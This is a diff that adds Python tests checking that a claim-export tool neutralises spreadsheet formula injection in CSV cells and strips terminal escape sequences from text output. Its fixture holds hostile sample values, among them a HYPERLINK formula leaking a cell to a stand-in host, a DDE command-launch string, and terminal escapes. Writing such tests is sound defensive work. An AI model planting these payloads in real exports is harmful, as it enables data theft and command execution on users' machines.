@@ -73,3 +73,39 @@ def test_readme_claim_example_has_the_shape_export_writes():
         assert set(example[role]) == set(real[role]) - {"segments"}, role
     documented = set(re.findall(r"^\| `(\w+)` \|", section, re.M))
     assert documented == set(real), documented ^ set(real)
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1) said the \x1b]0;owned\x07 minister \x1b[2J\u202e. Done.'
+
+
+def _hostile_pairs():
+    """A claim whose every text field starts like a spreadsheet formula or holds terminal escapes."""
+    text = HOSTILE
+    said = text.index("said")
+    claim = Claim(
+        type="indirect", sentence=0,
+        source=Source(text="the \x1b]0;owned\x07 minister", start=text.index("the"), end=text.index("\u202e"),
+                      name="@SUM(1+1)", kind="person"),
+        cue=Cue(text="said", start=said, end=said + 4, lemma="say"),
+        content=Span.from_offsets(text, 0, said - 1), confidence=0.5, cue_class="neutral",
+    )
+    meta = {"doc": "-2+3", "title": "+cmd|' /C calc'!A0", "publisher": "\tTab Co", "url": "@evil"}
+    return [(c, meta) for c in assign_ids([claim], "a")]
+
+
+def test_csv_cells_never_start_a_formula():
+    out = io.StringIO()
+    export.write(_hostile_pairs(), out, "csv")
+    [row] = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
+    for column in ("content_text", "source_name", "doc", "title", "publisher", "url"):
+        assert row[column].startswith("'"), (column, row[column])
+    assert row["content_text"] == "'" + HOSTILE[: HOSTILE.index("said") - 1]
+    assert row["confidence"] == "0.5" and row["content_start"] == "0"  # numbers are numbers
+
+
+def test_text_format_passes_no_terminal_escapes():
+    out = io.StringIO()
+    export.write(_hostile_pairs(), out, "text")
+    text = out.getvalue()
+    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
+    assert "\\x1b]0;owned\\x07" in text  # shown, not obeyed
